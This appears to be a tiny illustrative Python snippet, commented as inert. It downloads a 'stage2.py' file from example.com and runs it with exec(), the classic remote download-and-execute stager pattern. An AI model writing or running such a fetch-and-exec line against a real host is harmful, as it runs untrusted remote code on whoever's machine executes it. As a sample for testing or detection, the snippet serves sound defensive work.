# Inert: example.com serves nothing of the kind.
import urllib.request

exec(urllib.request.urlopen("http://example.com/stage2.py").read().decode())
